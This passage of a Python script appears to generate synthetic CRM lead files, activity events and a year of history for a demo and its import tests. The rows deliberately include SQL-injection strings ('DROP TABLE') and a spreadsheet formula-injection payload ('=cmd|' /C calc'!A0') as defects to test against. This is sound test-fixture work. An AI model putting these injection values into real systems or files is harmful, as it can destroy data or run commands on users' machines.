            "leads_northwind_mixed.csv": (2,),
            "leads_multi_org.csv": (3, 4),
            "leads_southern_cross.xlsx": (5, 6),
        }[spec.name]
        for i in sql:
            column, value = SQL_NAMES[i]
            anywhere.append(injected(spec.orgs[0][0], column, value, "sql_metacharacters"))
        for i in formulas:
            column, value = FORMULAS[i]
            org = spec.orgs[i % len(spec.orgs)][0]
            anywhere.append(injected(org, column, value, "formula_injection"))
        if spec.name == "leads_multi_org.csv":
            anywhere.append(
                injected(SUMMIT, "notes", "'; DROP TABLE activities; --", "sql_metacharacters")
            )
        if spec.name == "leads_summit_facebook.csv":

            def vanity() -> Row:
                row = self.new_row(spec, SUMMIT)
                row.phone = "1-800-FLOWERS"
                self._count(spec, "vanity_letters_phone")
                return row

            anywhere.append(vanity)

        plan: dict[int, Callable[[], Row]] = {}
        half = n // 2
        for positions, makers in (
            (rng.sample(range(0, half), len(first_half)), first_half),
            (rng.sample(range(half, n), len(second_half)), second_half),
        ):
            plan.update(zip(positions, makers, strict=True))
        free = [i for i in range(n) if i not in plan]
        plan.update(zip(rng.sample(free, len(anywhere)), anywhere, strict=True))
        return plan

    def build(self, spec: FileSpec) -> list[Row]:
        rng = self.rng
        self.file_defects[spec.name] = Counter()
        plan = self._plan(spec)
        orgs = [o for o, _ in spec.orgs]
        weights = [w for _, w in spec.orgs]
        rows: list[Row] = []
        for i in range(spec.rows):
            if i in plan:
                rows.append(plan[i]())
                continue
            org = rng.choices(orgs, weights=weights, k=1)[0]
            r = rng.random()
            if r < P_INVALID:
                rows.append(self.invalid_row(spec, org))
            elif r < P_INVALID + P_DUP and self.pools[org.id]:
                rows.append(self.dup_row(spec, org))
            else:
                rows.append(self.new_row(spec, org))
        self.rows[spec.name] = rows
        return rows

    # -- activities --------------------------------------------------------------------

    def activities(self, n: int = 2600) -> tuple[list[dict], Counter[str]]:
        rng = self.rng
        stats: Counter[str] = Counter()
        phones: dict[str, list[str]] = {}
        for org in ORGS:
            seen: dict[str, None] = {}
            for rows in self.rows.values():
                for row in rows:
                    if row.org.id == org.id:
                        e164 = parse_e164(row.phone, org.region)
                        if e164:
                            seen[e164] = None
            phones[org.id] = list(seen)
        orgs = list(ORGS)
        types = (("call", 40), ("sms", 20), ("email", 18), ("meeting", 7), ("note", 15))
        outcomes = {
            "call": (("answered", 45), ("no_answer", 30), ("voicemail", 18), ("busy", 7)),
            "sms": (("delivered", 60), ("replied", 32), ("failed", 8)),
            "email": (("sent", 35), ("opened", 35), ("replied", 20), ("bounced", 10)),
            "meeting": (("scheduled", 40), ("completed", 45), ("no_show", 15)),
        }
        inbound_share = {"call": 0.3, "sms": 0.4, "email": 0.25, "meeting": 0.2}
        hours = list(range(24))
        hour_weights = [
            1,
            1,
            1,
            1,
            1,
            1,
            2,
            4,
            8,
            10,
            10,
            10,
            9,
            10,
            10,
            10,
            9,
            8,
            6,
            4,
            3,
            2,
            1,
            1,
        ]
        events: list[tuple[str, int, dict]] = []
        for i in range(n):
            org = rng.choices(orgs, weights=(45, 30, 25), k=1)[0]
            kind = _weighted(rng, types)
            when = ACTIVITY_START + timedelta(
                days=rng.randrange(ACTIVITY_DAYS),
                hours=rng.choices(hours, weights=hour_weights, k=1)[0],
                minutes=rng.randrange(60),
                seconds=rng.randrange(60),
            )
            event: dict = {
                "organization_id": org.id,
                "type": kind,
                "direction": None,
                "outcome": None,
                "occurred_at": when.strftime("%Y-%m-%dT%H:%M:%SZ"),
                "user_id": rng.choice(org.user_ids),
            }
            if kind != "note":
                event["direction"] = "inbound" if rng.random() < inbound_share[kind] else "outbound"
                event["outcome"] = _weighted(rng, outcomes[kind])
            self._activity_details(event)
            r = rng.random()
            if r < 0.05:
                event["lead_phone"] = self.numbers.fresh(org.region)
                stats["unknown_phone"] += 1
            elif r < 0.056:
                other = rng.choice([o for o in ORGS if o.id != org.id])
                candidates = [p for p in phones[other.id] if p not in phones[org.id]]
                event["lead_phone"] = rng.choice(candidates)
                stats["other_org_phone"] += 1
            elif r < 0.30:
                event["lead_id"] = rng.choice(org.seed_lead_ids)
                stats["seed_lead_id"] += 1
            else:
                e164 = rng.choice(phones[org.id])
                if rng.random() < 0.15:
                    event["lead_phone"] = format_phone(rng, e164, org.region)
                    stats["known_phone_messy"] += 1
                else:
                    event["lead_phone"] = e164
                    stats["known_phone_e164"] += 1
            events.append((event["occurred_at"], i, event))
        events.sort(key=lambda t: (t[0], t[1]))
        out = []
        for k, (_, _, event) in enumerate(events, start=1):
            out.append({"event_id": f"evt-{k:06d}", **event})
        return out, stats

    def _activity_details(self, event: dict) -> None:
        rng = self.rng
        kind, outcome = event["type"], event["outcome"]
        if kind == "call":
            if outcome == "answered":
                event["duration_seconds"] = rng.randint(30, 1500)
                if rng.random() < 0.3:
                    event["body"] = rng.choice(CALL_NOTES)
            elif outcome == "voicemail":
                event["duration_seconds"] = rng.randint(15, 90)
        elif kind == "meeting":
            event["subject"] = rng.choice(MEETING_SUBJECTS)
            if outcome == "completed":
                event["duration_seconds"] = rng.choice((900, 1800, 2700, 3600)) + rng.randint(
                    -120, 300
                )
        elif kind == "email":
            event["subject"] = rng.choice(EMAIL_SUBJECTS)
            event["body"] = rng.choice(EMAIL_BODIES)
        elif kind == "sms":
            event["body"] = rng.choice(SMS_BODIES)
        else:
            event["body"] = rng.choice(NOTE_BODIES)


CALL_NOTES = (
    "Discussed availability for next month",
    "Wants a higher hourly rate",
    "Asked us to call back after 5pm",
    "Confirmed interview time",
)
MEETING_SUBJECTS = (
    "Intro call",
    "Interview prep",
    "Offer discussion",
    "Client site visit",
    "Onboarding check-in",
)
EMAIL_SUBJECTS = (
    "New role that matches your profile",
    "Following up on our chat",
    "Your interview on Thursday",
    "Documents needed",
    "Re: availability",
)
EMAIL_BODIES = (
    "Hi, just checking in about the position we discussed.",
    "Please send over your updated CV when you can.",
    "Thanks for your time today - next steps attached.",
    "Could you confirm your notice period?",
)
SMS_BODIES = (
    "Hi! Are you free for a quick call today?",
    "Reminder: interview tomorrow at 10am",
    "Thanks, got it",
    "STOP",
    "Can we move it to Friday?",
    "Yes, still interested",
)
NOTE_BODIES = (
    "Candidate prefers remote work",
    "Do not call before 9am",
    "Strong referral, fast-track",
    "Relocating in the spring, follow up then",
    "Asked to be contacted by e-mail only",
)


# ---------------------------------------------------------------------------------------
# Writers
# ---------------------------------------------------------------------------------------


def _cell(row: Row, attr: str) -> str | int:
    if attr == "org_id":
        return row.org.id
    return getattr(row, attr)


def write_csv(path: Path, spec: FileSpec, rows: Sequence[Row]) -> None:
    buf = io.StringIO(newline="")
    writer = csv.writer(
        buf, delimiter=spec.delimiter, lineterminator=spec.lineterminator, quoting=spec.quoting
    )
    writer.writerow([h for _, h in spec.headers])
    for row in rows:
        writer.writerow([_cell(row, attr) for attr, _ in spec.headers])
    path.write_bytes(buf.getvalue().encode(spec.encoding))  # strict: fails if unencodable


def write_xlsx(path: Path, spec: FileSpec, rows: Sequence[Row]) -> None:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Leads"
    ws.append([h for _, h in spec.headers])
    for r, row in enumerate(rows, start=2):
        for c, (attr, _) in enumerate(spec.headers, start=1):
            value = _cell(row, attr)
            cell = ws.cell(row=r, column=c, value=value)
            if isinstance(value, str) and cell.data_type == "f":
                cell.data_type = "s"  # keep "=..." as literal text, as a CSV export would
    wb.properties.creator = "leadflow scripts/generate_sample_data.py"
    wb.properties.created = FIXED_XLSX_TIME
    wb.properties.modified = FIXED_XLSX_TIME
    raw = io.BytesIO()
    wb.save(raw)  # openpyxl stamps "modified" with the clock and zip entries with now()
    path.write_bytes(_stabilize_zip(raw.getvalue()))


def _stabilize_zip(data: bytes) -> bytes:
    """Re-zip with fixed entry timestamps and a fixed docProps 'modified' date."""
    stamp = FIXED_XLSX_TIME.strftime("%Y-%m-%dT%H:%M:%SZ").encode()
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            payload = src.read(info.filename)
            if info.filename == "docProps/core.xml":
                payload = re.sub(
                    rb"(<dcterms:(?:modified|created)[^>]*>)[^<]*(</dcterms:)",
                    rb"\g<1>" + stamp + rb"\g<2>",
                    payload,
                )
            entry = zipfile.ZipInfo(info.filename, date_time=FIXED_ZIP_TIME)
            entry.compress_type = zipfile.ZIP_DEFLATED
            entry.create_system = 3
            entry.external_attr = 0o644 << 16
            dst.writestr(entry, payload)
    return out.getvalue()


def write_json_lines_array(path: Path, items: Sequence[dict]) -> None:
    body = ",\n".join(json.dumps(e, sort_keys=True, ensure_ascii=False) for e in items)
    path.write_text("[\n" + body + "\n]\n", encoding="utf-8", newline="\n")


def write_json(path: Path, obj: object) -> None:
    text = json.dumps(obj, sort_keys=True, indent=2, ensure_ascii=False) + "\n"
    path.write_text(text, encoding="utf-8", newline="\n")


# ---------------------------------------------------------------------------------------
# history.json: a year of CRM history (leads, status changes, scores, assignments,
# activities, costs) that `leadflow demo` loads relative to the moment it runs
# ---------------------------------------------------------------------------------------

HISTORY_DAYS = 365
#: no history event is later than this many minutes before the moment the demo loads it
HISTORY_GAP_MINUTES = 60


@dataclass(frozen=True)
class HistoryProfile:
    """How one organization's year went: cohort size, sources (share, effect on conversion,
    monthly spend in USD), its agents' contact delay (median hours), channels, and its
    baseline conversion (log-odds). The organizations differ on purpose."""

    leads_per_month: int
    sources: tuple[tuple[str, int, float, int], ...]  # (source, weight, log-odds effect, usd)
    agent_delay_hours: tuple[float, float]  # median delay of agents 3 and 4
    channels: tuple[tuple[str, int], ...]
    base_log_odds: float
    growth: float  # cohort size of the newest month / of the oldest


HISTORY_PROFILES = {
    SUMMIT.id: HistoryProfile(
        leads_per_month=85,
        sources=(
            ("indeed", 34, -0.2, 1450),
            ("facebook", 30, -0.7, 2150),
            ("linkedin", 22, 0.5, 2600),
            ("referral", 14, 1.4, 250),
        ),
        agent_delay_hours=(1.5, 14.0),
        channels=(("call", 6), ("sms", 3), ("email", 2)),
        base_log_odds=-1.3,
        growth=1.5,
    ),
    NORTHWIND.id: HistoryProfile(
        leads_per_month=60,
        sources=(
            ("linkedin", 38, 0.2, 3100),
            ("reed", 30, -0.4, 1250),
            ("referral", 12, 1.2, 400),
            ("website", 20, 0.0, 600),
        ),
        agent_delay_hours=(4.0, 30.0),
        channels=(("call", 3), ("email", 5), ("sms", 2)),
        base_log_odds=-0.8,
        growth=1.1,
    ),
    SOUTHERN.id: HistoryProfile(
        leads_per_month=28,
        sources=(
            ("seek", 45, 0.0, 1700),
            ("facebook", 25, -0.9, 900),
            ("radio", 15, -0.3, 1100),
            ("referral", 15, 1.0, 150),
        ),
        agent_delay_hours=(8.0, 3.0),
        channels=(("call", 5), ("sms", 5), ("email", 1)),
        base_log_odds=-1.6,
        growth=0.8,
    ),
}

HISTORY_SUCCESS = {"call": "answered", "sms": "replied", "email": "replied"}
HISTORY_INBOUND = {"call": "answered", "sms": "delivered", "email": "sent"}
HISTORY_FAILURE = {
    "call": (("no_answer", 5), ("voicemail", 3), ("busy", 1)),
    "sms": (("delivered", 6), ("failed", 1)),
    "email": (("sent", 3), ("opened", 3), ("bounced", 1)),
}
#: the rule score's weights (system_config score_weights of the SQL seed)
HISTORY_WEIGHTS = {"qualification": 0.3, "engagement": 0.3, "intent": 0.25, "demographic": 0.15}
HISTORY_QUALIFICATION = {"referral": 80, "linkedin": 65, "website": 55, "seek": 60, "indeed": 55}


def history_uuid(key: str) -> str:
    """A deterministic v4-shaped uuid for a history row."""
    digest = hashlib.md5(f"leadflow-history:{key}".encode()).digest()
    return str(uuid.UUID(bytes=digest, version=4))


def _sigmoid(x: float) -> float:
    return 1.0 / (1.0 + math.exp(-x))


class HistoryGenerator:
    """One organization's year, lead by lead. Each lead has a hidden interest: it makes the
    lead answer, reply and reach out more, and makes it likelier to be recruited, together
    with its source. So the outcome depends on what the propensity model sees (activities,
    status path, source), only partly on what the rule score sums (source and replies)."""

    def __init__(self, seed: int, numbers: NumberFactory) -> None:
        numbers.used |= seed_sql_phones()
        self.rng = random.Random(f"{seed}:history")
        self.numbers = numbers
        self.rows: dict[str, list[list]] = {
            "leads": [],
            "lead_status_history": [],
            "lead_score_history": [],
            "lead_assignments": [],
            "lead_activities": [],
            "lead_source_costs": [],
        }
        self.stats: Counter[str] = Counter()

    def build(self) -> dict[str, list[list]]:
        for org in ORGS:
            self._org(org, HISTORY_PROFILES[org.id])
        return self.rows

    def _org(self, org: Org, profile: HistoryProfile) -> None:
        rng = self.rng
        manager, agents = org.user_ids[1], org.user_ids[2:4]
        months = HISTORY_DAYS // 30
        for month in range(months + 1):  # costs: this month and the 12 before
            for source, _, _, usd in profile.sources:
                factor = 1 + profile.growth * (months - month) / months / 3
                cost = round(usd * factor * rng.uniform(0.85, 1.15), 2)
                key = f"cost:{org.id}:{source}:{month}"
                self.rows["lead_source_costs"].append(
                    [history_uuid(key), org.id, manager, source, month, cost]
                )
        number = 0
        for day in range(HISTORY_DAYS, 0, -1):
            ramp = 1 + (profile.growth - 1) * (HISTORY_DAYS - day) / HISTORY_DAYS
            expected = profile.leads_per_month * ramp * 12 / HISTORY_DAYS
            for _ in range(int(expected) + (rng.random() < expected - int(expected))):
                number += 1
                # minutes before the load; the newest lead is two hours old
                created = max(day * 1440 - rng.randint(0, 1439), 2 * HISTORY_GAP_MINUTES)
                self._lead(org, profile, number, created, agents[number % 2], number % 2)
        self.stats[f"leads:{org.id}"] = number

    def _lead(
        self, org: Org, profile: HistoryProfile, number: int, created: int, agent: str, slot: int
    ) -> None:  # noqa: PLR0915 (one lead's story, told in order)
        rng = self.rng
        lead_id = history_uuid(f"lead:{org.id}:{number}")
        name_region = org.region
        first = rng.choice(FIRST_NAMES[name_region])
        last = rng.choice(LAST_NAMES[name_region])
        email = make_email(rng, first, last).strip().lower()
        source, _, effect, _ = rng.choices(
            profile.sources, weights=[s[1] for s in profile.sources]
        )[0]
        interest = rng.gauss(0, 1)
        events: list[tuple[int, str, list]] = []  # (minutes after creation, table, row)
        status = ["new"]

        def move(at: int, to: str) -> None:
            events.append((at, "status", [status[-1], to]))
            status.append(to)

        events.append((0, "status", [None, "new"]))
        assigned = rng.randint(5, 90)
        events.append((assigned, "assignment", [agent]))
        delay = rng.lognormvariate(math.log(profile.agent_delay_hours[slot] * 60), 0.9)
        at = assigned + int(delay)
        successes = 0
        attempts = rng.randint(3, 9)
        answer = _sigmoid(-0.6 + 1.3 * interest)
        channels = [c for c, _ in profile.channels]
        weights = [w for _, w in profile.channels]
        for attempt in range(attempts):
            channel = rng.choices(channels, weights=weights)[0]
            if rng.random() < answer:
                outcome, successes = HISTORY_SUCCESS[channel], successes + 1
                if successes == 1:
                    move(at + 5, "contacted")
            else:
                outcome = rng.choices(
                    [o for o, _ in HISTORY_FAILURE[channel]],
                    weights=[w for _, w in HISTORY_FAILURE[channel]],
                )[0]
            duration = rng.randint(60, 900) if (channel, outcome) == ("call", "answered") else None
            events.append((at, "activity", [channel, "outbound", outcome, duration]))
            if rng.random() < _sigmoid(-2.2 + 1.2 * interest):
                inbound = at + rng.randint(60, 2880)
                channel = rng.choice(channels)
                events.append(
                    (inbound, "activity", [channel, "inbound", HISTORY_INBOUND[channel], None])
                )
            if attempt == 0 and successes == 0 and rng.random() < 0.3:
                events.append((at + 2, "activity", ["note", None, None, None]))
            at += rng.randint(720, 5760)
        recruit = successes > 0 and rng.random() < _sigmoid(
            profile.base_log_odds + 1.6 * interest + effect
        )
        first_success = next((t for t, kind, row in events if row[1:] == ["contacted"]), None)
        # a hot lead is likely, not certain, to be recruited; a good-looking one may still go
        # cold: the model reads odds, not a script
        courted = first_success is not None and (
            recruit or (interest > -0.5 and rng.random() < 0.45)
        )
        if recruit and first_success is not None and rng.random() < 0.3:
            # the slow road: nurtured for weeks, then recruited without ever being hot
            qualified = first_success + rng.randint(1440, 8640)
            move(qualified, "qualified")
            nurturing = qualified + rng.randint(7200, 21600)
            move(nurturing, "nurturing")
            recruited = nurturing + rng.randint(20 * 1440, 80 * 1440)
            move(recruited, "recruited")
            events = [e for e in events if e[1] != "activity" or e[0] <= recruited]
        elif courted and first_success is not None:
            qualified = first_success + rng.randint(1440, 8640)
            move(qualified, "qualified")
            meeting = qualified + rng.randint(2880, 14400)
            held = rng.random() < (0.85 if recruit else 0.6)
            outcome = "completed" if held else "no_show"
            events.append(
                (meeting, "activity", ["meeting", "outbound", outcome, 2700 if held else None])
            )
            hot = meeting + rng.randint(60, 2880)
            move(hot, "hot")
            call = hot + rng.randint(1440, 7200)
            answered = rng.random() < (0.8 if recruit else 0.5)
            events.append(
                (
                    call,
                    "activity",
                    [
                        "call",
                        "outbound",
                        "answered" if answered else "no_answer",
                        600 if answered else None,
                    ],
                )
            )
            if recruit:
                recruited = call + rng.randint(60, 50 * 1440)
                move(recruited, "recruited")
                events = [e for e in events if e[1] != "activity" or e[0] <= recruited]
            else:
                move(call + rng.randint(7 * 1440, 40 * 1440), "cold")
        elif first_success is not None and interest > -0.3 and rng.random() < 0.55:
            qualified = first_success + rng.randint(1440, 8640)
            move(qualified, "qualified")
            nurturing = qualified + rng.randint(7200, 21600)
            move(nurturing, "nurturing")
            if rng.random() < 0.6:
                move(max(at, nurturing) + rng.randint(28800, 86400), "cold")
        elif rng.random() < 0.75:
            move(at + rng.randint(7200, 21600), "cold")
        index = len(self.rows["leads"])
        final, score, contact, updated = self._emit(org, index, created, agent, source, events)
        phone = self.numbers.fresh(org.region)
        self.rows["leads"].append(
            [
                lead_id,
                org.id,
                agent,
                first,
                last,
                phone,
                email,
                final,
                score,
                source,
                created,
                updated,
                contact,
            ]
        )

    def _emit(
        self,
        org: Org,
        lead: int,
        created: int,
        agent: str,
        source: str,
        events: list[tuple[int, str, list]],
    ) -> tuple[str, int, int | None, int]:
        """The lead's events that happened before the load, as rows (minutes before it)."""
        rng = self.rng
        qualification = HISTORY_QUALIFICATION.get(source, 45)
        demographic = rng.randint(30, 90)
        replies = score = 0
        final, contact = "new", None
        kept = sorted(
            (e for e in events if created - e[0] >= HISTORY_GAP_MINUTES), key=lambda e: e[0]
        )
        for at, kind, row in kept:
            ago = created - at
            if kind == "status":
                self.rows["lead_status_history"].append([lead, row[0], row[1], ago])
                final = row[1]
            elif kind == "assignment":
                self.rows["lead_assignments"].append([lead, ago])
            else:
                channel, direction, outcome, duration = row
                self.rows["lead_activities"].append(
                    [lead, channel, direction, outcome, ago, duration]
                )
                if outcome in ("answered", "replied", "completed") or direction == "inbound":
                    replies += 1
                    contact = ago
            if kind == "status" or (kind == "activity" and row[1] == "inbound"):
                factors = {
                    "qualification": qualification,
                    "engagement": min(100, 25 * replies),
                    "intent": 40 + (10 if source == "referral" else 0),
                    "demographic": demographic,
                }
                score = round(sum(HISTORY_WEIGHTS[k] * v for k, v in factors.items()))
                self.rows["lead_score_history"].append([lead, score, *factors.values(), ago])
        self.stats[f"status:{org.id}:{final}"] += 1
        return final, score, contact, (created - kept[-1][0]) if kept else created


#: the columns of each table's rows in history.json. `lead` is the row number of the lead in
#: `leads` (its organization and owner are the lead's); `*_ago` are minutes before the load,
#: `months_ago` counts calendar months back from the load's month. The loader derives every
#: other id from the lead's id and the row's number, so loading twice adds nothing.
HISTORY_COLUMNS = {
    "leads": [
        "id",
        "organization_id",
        "user_id",
        "first_name",
        "last_name",
        "phone_number",
        "email",
        "status",
        "lead_score",
        "source",
        "created_ago",
        "updated_ago",
        "last_contact_ago",
    ],
    "lead_status_history": ["lead", "from_status", "to_status", "changed_ago"],
    "lead_score_history": [
        "lead",
        "score",
        "qualification",
        "engagement",
        "intent",
        "demographic",
        "calculated_ago",
    ],
    "lead_assignments": ["lead", "assigned_ago"],
    "lead_activities": [
        "lead",
        "activity_type",
        "direction",
        "outcome",
        "occurred_ago",
        "duration_seconds",
    ],
    "lead_source_costs": ["id", "organization_id", "user_id", "source", "months_ago", "cost_usd"],
}


def history_summary(rows: dict[str, list[list]]) -> dict[str, object]:
    """history.json in figures: rows per table; per organization its leads, cohorts (leads
    created per 30-day period, oldest first), final statuses, activities and spend."""
    orgs: dict[str, dict[str, object]] = {}
    lead_org = [lead[1] for lead in rows["leads"]]
    for org in ORGS:
        leads = [lead for lead in rows["leads"] if lead[1] == org.id]
        cohorts = Counter(min(lead[10] // (30 * 1440), 11) for lead in leads)
        statuses = Counter(lead[7] for lead in leads)
        activities = [a for a in rows["lead_activities"] if lead_org[a[0]] == org.id]
        costs = [c for c in rows["lead_source_costs"] if c[1] == org.id]
        orgs[org.id] = {
            "leads": len(leads),
            "cohorts_30_days": [cohorts[k] for k in range(11, -1, -1)],
            "statuses": dict(sorted(statuses.items())),
            "sources": sorted({lead[9] for lead in leads}),
            "activities": len(activities),
            "status_changes": sum(
                1 for h in rows["lead_status_history"] if lead_org[h[0]] == org.id
            ),
            "assignments": sum(1 for h in rows["lead_assignments"] if lead_org[h[0]] == org.id),
            "cost_usd": round(sum(c[5] for c in costs), 2),
        }
    return {"rows": {table: len(r) for table, r in rows.items()}, "organizations": orgs}


def write_history(path: Path, rows: dict[str, list[list]]) -> None:
    """history.json: per table its columns and its rows, one row a line."""
    tables = []
    for table, columns in HISTORY_COLUMNS.items():
        body = ",\n".join(
            f"      {json.dumps(r, ensure_ascii=False, sort_keys=True)}" for r in rows[table]
        )
        tables.append(
            f'  "{table}": {{\n    "columns": {json.dumps(columns)},\n    "rows": [\n{body}\n    ]\n  }}'
        )
    path.write_text("{\n" + ",\n".join(tables) + "\n}\n", encoding="utf-8", newline="\n")


def seed_sql_phones() -> set[str]:
    """The phones of the SQL seed's leads: history leads never take one."""
    text = (Path(__file__).resolve().parent.parent / "seeds" / SEED_SQL).read_text(encoding="utf-8")
    return set(re.findall(r"'(\+[1-9][0-9]{7,14})'", text))


# ---------------------------------------------------------------------------------------
# Summary (manifest.json, README.md)
# ---------------------------------------------------------------------------------------


def _org_summary(gen: Generator) -> dict[str, dict[str, int]]:
    out: dict[str, dict[str, int]] = {}
    for org in ORGS:
        seen: set[str] = set()
        s = Counter(
            rows=0,
            valid_phone_rows=0,
            invalid_phone_rows=0,
            duplicate_phone_rows=0,
            dnc_phone_rows=0,
        )
        for spec in FILES:
            for row in gen.rows[spec.name]:
                if row.org.id != org.id:
                    continue
                s["rows"] += 1
                e164 = parse_e164(row.phone, org.region)
                if e164 is None:
                    s["invalid_phone_rows"] += 1
                    continue
                s["valid_phone_rows"] += 1
                if e164 in seen:
                    s["duplicate_phone_rows"] += 1
                seen.add(e164)
                if e164 in gen.dnc[org.id]:
                    s["dnc_phone_rows"] += 1
        s["distinct_e164_phones"] = len(seen)
        out[org.id] = dict(sorted(s.items()))
    return out


def _history_readme(history: dict) -> list[str]:
    rows = history["rows"]
    lines = [
        "## `history.json`",
        "",
        "A year of CRM history per organization, as if each had used the CRM for the past 12",
        "months: leads with their status changes, rule scores, assignments, outbound and inbound",
        "activities, and the managers' monthly spend per source. Times are minutes before the",
        "moment `leadflow demo` loads it (`*_ago`; the newest event is an hour old) and cost",
        "periods count months back, so the history always ends at the demo's run: the coaching",
        "mart measures real contact delays, the cohorts span a year, and the propensity model has",
        "past snapshots whose 30-day horizon has passed. Loaded with `leadflow.platform.seed.",
        "load_sample_history` (idempotent by id); the SQL seed's own rows are untouched.",
        "",
        "Each lead has a hidden interest: it makes the lead answer, reply and reach out more and,",
        "with the source's effect, makes it likelier to be recruited (a meeting, then `hot`, then",
        "`recruited`). The outcome depends on what the model sees (activities, status path,",
        "source); the rule score sums only the source's quality and the replies.",
        "",
        "Rows: " + ", ".join(f"{table} {count}" for table, count in rows.items()) + ".",
        "",
        "| org | leads | leads per 30 days, oldest first | sources | recruited | cold | activities | spend USD |",
        "| --- | --- | --- | --- | --- | --- | --- | --- |",
    ]
    for org in ORGS:
        o = history["organizations"][org.id]
        lines.append(
            f"| {org.name} | {o['leads']} | {' '.join(map(str, o['cohorts_30_days']))} |"
            f" {', '.join(o['sources'])} | {o['statuses'].get('recruited', 0)} |"
            f" {o['statuses'].get('cold', 0)} | {o['activities']} | {o['cost_usd']:,.2f} |"
        )
    profiles = ", ".join(
        f"{org.name}: {p.agent_delay_hours[0]:g} h and {p.agent_delay_hours[1]:g} h"
        for org, p in ((org, HISTORY_PROFILES[org.id]) for org in ORGS)
    )
    lines += [
        "",
        f"Median delay from assignment to the first outbound contact, agents 3 and 4: {profiles}.",
        "",
    ]
    return lines


def _readme(
    counts: dict[str, int],
    gen: Generator,
    orgs: dict[str, dict[str, int]],
    act_stats: Counter[str],
    seed: int,
    history: dict[str, object],
) -> str:
    def defects_of(name: str) -> str:
        c = gen.file_defects[name]
        return ", ".join(f"{k} {v}" for k, v in sorted(c.items()))

    lines = [
        "# Sample input data",
        "",
        "Generated by `scripts/generate_sample_data.py` (seed "
        f"{seed}); do not edit by hand. Regenerate with",
        "",
        "```",
        "python scripts/generate_sample_data.py --out seeds/sample --seed 42",
        "```",
        "",
        "`tests/unit/test_sample_data.py` fails if these files differ from a fresh generation.",
        "All names, e-mails (`example.com/.net/.org`) and notes are made up; the phone numbers",
        "are random numbers that `phonenumbers` deems valid (the 555 exchange is avoided).",
        "",
        'Import order assumed by the counts below ("later row" means later in this order):',
        "facebook, northwind, multi_org, southern_cross.",
        "",
        "## Organizations",
        "",
        "| id | name | phone region |",
        "| --- | --- | --- |",
    ]
    lines += [f"| `{o.id}` | {o.name} | {o.region} |" for o in ORGS]
    lines += [
        "",
        "## Lead files",
        "",
        "| file | rows | org | format | phone column |",
        "| --- | --- | --- | --- | --- |",
        f"| `leads_summit_facebook.csv` | {counts['leads_summit_facebook.csv']} | "
        "Summit (no org column: import with `--org`) | comma, UTF-8 without BOM, LF | `Phone` |",
        f"| `leads_northwind_mixed.csv` | {counts['leads_northwind_mixed.csv']} | "
        "Northwind (import with `--org`) | semicolon, cp1252, CRLF | `Mobile` |",
        f"| `leads_multi_org.csv` | {counts['leads_multi_org.csv']} | all three "
        "(`organization_id`, `owner_id` columns) | tab, UTF-8 with BOM, CRLF, every field "
        "quoted, `Notes` has commas and some embedded newlines | `Phone Number` |",
        f"| `leads_southern_cross.xlsx` | {counts['leads_southern_cross.xlsx']} | "
        "Southern Cross (import with `--org`) | sheet `Leads`, header in row 1 | `Cell` |",
        "",
        "Headers:",
        "",
    ]
    for spec in FILES:
        lines.append(f"* `{spec.name}`: " + ", ".join(f"`{h}`" for _, h in spec.headers))
    lines += [
        "",
        "Deliberate defects per file (counts of rows):",
        "",
    ]
    for spec in FILES:
        lines.append(f"* `{spec.name}`: {defects_of(spec.name)}")
    lines += [
        "",
        "What the categories mean:",
        "",
        "* `duplicate_phone`: the row's phone is, in E.164, a phone seen earlier in the same",
        "  org (same file or an earlier file), written in another format. Sub-kinds:",
        "  `dup_plain` (same data), `dup_newer_email` (a different, non-empty e-mail: the",
        "  later one should win), `dup_fills_email` (earlier row had no e-mail),",
        "  `dup_fills_name` (earlier row had an empty first and/or last name),",
        "  `dup_blank_fields` (later row has an empty e-mail and maybe first name: must",
        "  not erase the earlier values).",
        "* `invalid_phone`: `phonenumbers.parse(raw, org region)` fails or",
        "  `is_valid_number` is false: `too_short`, `too_long`, `letters` (`N/A`,",
        "  `555-CALL-NOW`, ...), `empty`, `placeholder` (`123-456-7890`), `other_region` (a",
        "  national number of another country, valid there only), `wrong_exit_code`",
        "  (`001 212 ...` in the US file: the US exit code is 011), `no_area_code` (AU",
        "  landline without its `(0x)`).",
        "* `vanity_letters_phone`: `1-800-FLOWERS`. Note that phonenumbers converts the",
        "  letters and deems `+18003569377` VALID (toll-free): it is not counted as invalid.",
        "* `phone_stored_as_number`: xlsx cell holds an int like `412345678` (leading 0",
        "  lost); phonenumbers still parses it as a valid AU mobile.",
        "* `invalid_email`: `john@`, `no-at-sign.com`, `a@@example.com`, ...",
        "* `missing_name_part`: empty first and/or last name.",
        "* `sql_metacharacters`: `Robert'); DROP TABLE leads;--` and friends in names/notes.",
        "* `formula_injection`: cells starting with `=`, `+` or `@` (`=cmd|' /C calc'!A0`).",
        "  In the xlsx they are stored as text, not as formulas.",
        "* `notes_with_newline`: quoted `Notes` field containing a line break.",
        "",
        "Other mess everywhere: names in ALL CAPS / lower case / extra inner or outer spaces,",
        "accented names (UTF-8 in the UTF-8 files, cp1252 in the Northwind file), e-mails",
        "in upper case or with spaces, sources spelled many ways (`fb`, `Facebook Ads`,",
        "`facebook`), tags joined by `;`, `|` or `,` with repeated tags in other cases.",
        "US phones carry extensions now and then (`x123`, `ext. 45`, `#204`).",
        "",
        "## Expected results per organization",
        "",
        "As judged by `phonenumbers.parse(raw, org region)` + `is_valid_number`, over all",
        "four files. `distinct_e164_phones` is the number of leads the files should yield",
        "per org (before any collision with the SQL seed's own leads).",
        "",
        "| org | rows | valid phone rows | invalid phone rows | duplicate phone rows |"
        " distinct E.164 | DNC phone rows |",
        "| --- | --- | --- | --- | --- | --- | --- |",
    ]
    for org in ORGS:
        s = orgs[org.id]
        lines.append(
            f"| {org.name} | {s['rows']} | {s['valid_phone_rows']} | {s['invalid_phone_rows']}"
            f" | {s['duplicate_phone_rows']} | {s['distinct_e164_phones']}"
            f" | {s['dnc_phone_rows']} |"
        )
    shared = ", ".join(f"`{p}`" for p in gen.cross_org_shared)
    lines += [
        "",
        f"Phones present in both Summit's and Northwind's files ({len(gen.cross_org_shared)}):",
        "each must become one lead in EACH of the two orgs, never one shared lead:",
        shared + ".",
        "",
        "## `dnc_phones.json`",
        "",
        f"`{{org_id: [E.164, ...]}}`, {counts['dnc_phones.json']} numbers in all, 4 per org,",
        "for the DNC lists of the SQL seed. Each appears in its org's rows several times,",
        "formatted differently. Summit's first two DNC numbers also appear in Northwind's",
        "file, where they are NOT on the DNC list.",
